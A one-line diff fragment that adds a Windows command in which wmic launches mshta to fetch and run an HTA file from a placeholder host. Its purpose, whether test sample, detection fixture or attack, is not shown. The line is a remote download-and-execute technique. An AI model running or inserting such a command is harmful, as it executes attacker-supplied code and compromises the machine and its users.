@@ -1,0 +1,1 @@
+wmic process call create 'mshta http://a0.example/d.hta'
